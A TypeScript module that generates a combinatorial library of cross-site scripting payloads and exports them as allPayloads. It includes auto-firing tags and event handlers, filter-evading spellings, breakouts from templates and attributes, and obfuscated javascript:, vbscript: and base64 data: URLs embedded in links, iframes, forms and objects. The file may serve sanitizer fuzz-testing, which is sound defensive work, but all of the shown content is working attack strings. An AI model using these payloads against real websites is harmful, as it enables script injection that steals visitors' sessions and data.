import { encoded, malformed, marked, mutating, type Payload, templates, turned } from './payload-tricks.ts'

const cross = <One, Other>(
  ones: readonly One[],
  others: readonly Other[],
  join: (a: One, b: Other) => Payload,
) => ones.flatMap((one) => others.map((other) => join(one, other)))

/** These run by themselves as soon as they are parsed. */
const carriers: readonly Payload[] = [
  (code) => `<img src=x onerror=${code}>`,
  (code) => `<svg onload=${code}>`,
  (code) => `<script>${code}</script>`,
  (code) => `<iframe srcdoc="<script>parent.${code}</script>">`,
]

/** Elements that call their handler without being touched, or that a visitor cannot avoid touching. */
const handlers = [
  ['body', 'onload'],
  ['body', 'onpageshow'],
  ['video src=x', 'onerror'],
  ['video><source src=x', 'onerror'],
  ['audio src=x', 'onerror'],
  ['img src=/favicon.ico', 'onload'],
  ['input autofocus', 'onfocus'],
  ['input type=image src=x', 'onerror'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a href=# autofocus', 'onfocus'],
  ['div tabindex=1 autofocus', 'onfocus'],
  ['details open', 'ontoggle'],
  ['iframe', 'onload'],
  ['iframe src=about:blank', 'onload'],
  ['object data=x', 'onerror'],
  ['embed src=x', 'onerror'],
  ['link rel=stylesheet href=x', 'onerror'],
  ['script src=x', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['div onclick=1', 'onpointerover'],
  ['b', 'onmouseover'],
  ['p', 'onclick'],
] as const

/** The same element, in spellings that browsers still accept. */
const spellings: readonly ((tag: string, event: string, code: string) => string)[] = [
  (tag, event, code) => `<${tag} ${event}=${code}>`,
  (tag, event, code) => `<${tag.toUpperCase()} ${event.toUpperCase()} = "${code}" >`,
  (tag, event, code) => `<${tag}\n\t${event}\n=\n'${code}'//`,
  (tag, event, code) => `<${tag}/x="/" ${event}=${code} x>`,
]

const events = cross(
  handlers,
  spellings,
  ([tag, event], spell) =>
    (code) =>
      spell(tag, event, code),
)

/** Break out of the place where a careless template would put the text. */
const exits = [
  ...['">', "'>", '`>', '>', '"/>', '-->', '--!>', ']]>', '%>', '"}]}'],
  ...['title', 'textarea', 'script', 'style', 'noscript', 'template', 'select', 'iframe', 'xmp', 'head'].map(
    (name) => `</${name}>`,
  ),
]
const breakouts = cross(exits, carriers.slice(0, 3), (exit, carry) => (code) => exit + carry(code))

const attributes: readonly Payload[] = ['"', "'", '` ', '" x="', "' x='"].flatMap((quote) => [
  (code) => `${quote} onmouseover=${code} `,
  (code) => `${quote} autofocus onfocus=${code} `,
  (code) => `${quote} style=animation-name:x onanimationstart=${code} `,
])

const data = (type: string, markup: string) => `data:${type};base64,${Buffer.from(markup).toString('base64')}`

/** URLs that are code. */
const schemes: readonly Payload[] = [
  (code) => `javascript:${code}`,
  (code) => `JaVaScRiPt:${code}`,
  (code) => ` javascript:${code}`,
  (code) => `\u0001javascript:${code}`,
  (code) => `java\tscript:${code}`,
  (code) => `java\nscript:${code}`,
  (code) => `javascript\r:${code}`,
  (code) => `javascript://a.example/%0A${code}`,
  (code) => `javascript:"https://a.example";${code}`,
  (code) => `vbscript:${code}`,
  (code) => `data:text/html,<script>parent.${code}</script>`,
  (code) => data('text/html', `<script>parent.${code}</script>`),
  (code) => data('image/svg+xml', `<svg xmlns="http://www.w3.org/2000/svg" onload="parent.${code}"/>`),
  (code) => `view-source:javascript:${code}`,
]

/** Places where a URL is followed or fetched. */
const places: readonly ((address: string) => string)[] = [
  (address) => address,
  (address) => `<a href="${address}">come</a>`,
  (address) => `<iframe src="${address}"></iframe>`,
  (address) => `<form action="${address}"><button>go</button></form>`,
  (address) => `<object data="${address}"></object>`,
  (address) => `<svg><a xlink:href="${address}"><text y=9>come</text></a></svg>`,
]
const addresses = cross(
  schemes,
  places,
  (scheme, place) => (code) => place(scheme(code).replaceAll('"', '&quot;')),
)

export const allPayloads: readonly Payload[] = [
  ...[carriers, events, breakouts, attributes, addresses],
  ...[encoded, malformed, mutating, templates, marked, turned],
].flat()
